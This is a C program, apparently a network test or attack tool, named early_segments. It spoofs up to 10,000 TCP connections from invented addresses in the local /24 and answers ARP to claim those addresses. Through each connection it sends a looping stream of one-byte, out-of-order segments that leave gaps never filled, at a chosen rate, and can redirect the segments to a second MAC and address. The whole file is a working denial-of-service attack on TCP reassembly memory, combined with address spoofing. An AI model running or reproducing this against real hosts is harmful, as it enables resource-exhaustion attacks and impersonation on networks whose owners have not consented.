/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * early_segments DEVICE MAC ADDRESS PORT CONNECTIONS SEGMENTS RATE SECONDS [MAC2 ADDRESS2]: connections from
 * addresses of the host's /24 that this program makes up, each of which sends SEGMENTS segments of one
 * byte with a gap before every one, and never what is missing; all of them again and again, RATE of them
 * a second. With MAC2 and ADDRESS2 these segments go there instead. ARP for the addresses is answered here.
 * Prints how many connections came about.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "raw_frames.h"

#define FIRST_ADDR 100 /* behind the /24 */
#define FIRST_PORT 20000
#define CONNECTIONS_MAX 10000
#define PER_ADDRESS 100

static struct conn {
	uint32_t seq, ack;
	int is_open;
} conns[CONNECTIONS_MAX];

static struct raw_path path, later; /* to whom: for handshakes and resets; for segments */
static uint16_t to_port;
static unsigned int n_conns, n_open;
static int wire;

static double
now_s(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static uint32_t
address_of(unsigned int i)
{
	return htonl((ntohl(path.to) & 0xffffff00) | (FIRST_ADDR + i / PER_ADDRESS));
}

static void
send_segment(unsigned int i, uint32_t seq, uint8_t flags, const char *data, size_t len)
{
	struct raw_path *to = len > 0 ? &later : &path;
	uint8_t f[RAW_FRAME_MAX];
	struct raw_segment t = { .from_port = (uint16_t)(FIRST_PORT + i % PER_ADDRESS),
		.to_port = to_port, .seq = seq, .ack = conns[i].ack, .flags = flags, .window = 65535,
		.data = data, .len = len };

	to->from = address_of(i);
	while (send(wire, f, raw_tcp(f, to, &t), 0) < 0 && (errno == ENOBUFS || errno == EINTR))
		;
}

static void
answer_arp(const uint8_t *f)
{
	struct raw_path p = path;
	uint8_t answer[RAW_FRAME_MAX];
	uint32_t asked;

	memcpy(&asked, f + 38, 4);
	if (f[21] != 1 || ntohl(asked) - ntohl(address_of(0)) > n_conns / PER_ADDRESS)
		return;
	p.from = asked;
	memcpy(&p.to, f + 28, 4);
	send(wire, answer, raw_arp(answer, &p, 2), 0);
}

static void
take_syn_ack(const uint8_t *f)
{
	uint32_t to, seq;
	uint16_t port;
	unsigned int i;

	memcpy(&to, f + 30, 4);
	memcpy(&port, f + 36, 2);
	memcpy(&seq, f + 38, 4);
	i = (ntohl(to) - ntohl(address_of(0))) * PER_ADDRESS + ntohs(port) - FIRST_PORT;
	if (i >= n_conns || to != address_of(i) || (f[47] & (RAW_SYN | RAW_ACK)) != (RAW_SYN | RAW_ACK) ||
		conns[i].is_open)
		return;
	conns[i].is_open = 1;
	conns[i].ack = ntohl(seq) + 1;
	n_open++;
	send_segment(i, conns[i].seq + 1, RAW_ACK, NULL, 0);
}

/* What comes within `seconds`. */
static void
listen_for(double seconds)
{
	double end = now_s() + seconds;
	uint8_t f[2048];
	ssize_t n;

	do {
		n = recv(wire, f, sizeof(f), MSG_DONTWAIT);
		if (n >= 42 && memcmp(f + 12, "\x08\x06", 2) == 0)
			answer_arp(f);
		else if (n >= 54 && memcmp(f + 12, "\x08\x00\x45", 3) == 0 && f[23] == IPPROTO_TCP)
			take_syn_ack(f);
	} while (n >= 0 || now_s() < end);
}

static void
attack(unsigned int segments, double rate, double seconds)
{
	double end = now_s() + seconds, start;
	unsigned long sent = 0;

	for (int round = 0; round < 3 && n_open < n_conns; round++)
		for (unsigned int i = 0; i < n_conns; i++) {
			if (!conns[i].is_open)
				send_segment(i, conns[i].seq, RAW_SYN, NULL, 0);
			listen_for(i % 16 == 0 ? 0.002 : 0);
		}
	start = now_s();
	for (unsigned int s = 1; n_open > 0 && now_s() < end; s = s % segments + 1)
		for (unsigned int i = 0; i < n_conns; i++)
			if (conns[i].is_open) {
				send_segment(i, conns[i].seq + 1 + 2 * s, RAW_ACK | RAW_PSH, "x", 1);
				if (++sent % 64 == 0)
					listen_for(start + (double)sent / rate - now_s());
			}
	for (unsigned int i = 0; i < n_conns; i++)
		if (conns[i].is_open)
			send_segment(i, conns[i].seq + 1, RAW_RST | RAW_ACK, NULL, 0);
}

int
main(int argc, char **argv)
{
	unsigned int segments = 0;
	double rate = 0;

	if (argc == 9 || argc == 11) {
		to_port = (uint16_t)strtoul(argv[4], NULL, 10);
		n_conns = (unsigned int)strtoul(argv[5], NULL, 10);
		segments = (unsigned int)strtoul(argv[6], NULL, 10);
		rate = strtod(argv[7], NULL);
	}
	if (n_conns == 0 || n_conns > CONNECTIONS_MAX || segments == 0 || rate <= 0 ||
		!raw_parse_mac(argv[2], path.to_mac) || inet_pton(AF_INET, argv[3], &path.to) != 1 ||
		!raw_parse_mac(argv[argc == 11 ? 9 : 2], later.to_mac) ||
		inet_pton(AF_INET, argv[argc == 11 ? 10 : 3], &later.to) != 1) {
		fprintf(stderr, "usage: early_segments DEVICE MAC ADDRESS PORT CONNECTIONS SEGMENTS RATE "
				"SECONDS [MAC2 ADDRESS2] (up to %d connections)\n", CONNECTIONS_MAX);
		return 2;
	}
	wire = raw_open(argv[1], 0);
	if (wire < 0) {
		perror(argv[1]);
		return 1;
	}
	memcpy(path.from_mac, "\x02\x13\xea\x00\x00\x01", 6);
	memcpy(later.from_mac, path.from_mac, 6);
	for (unsigned int i = 0; i < n_conns; i++)
		conns[i].seq = raw_any();
	attack(segments, rate, strtod(argv[8], NULL));
	printf("%u of %u connections\n", n_open, n_conns);
	return n_open == 0;
}
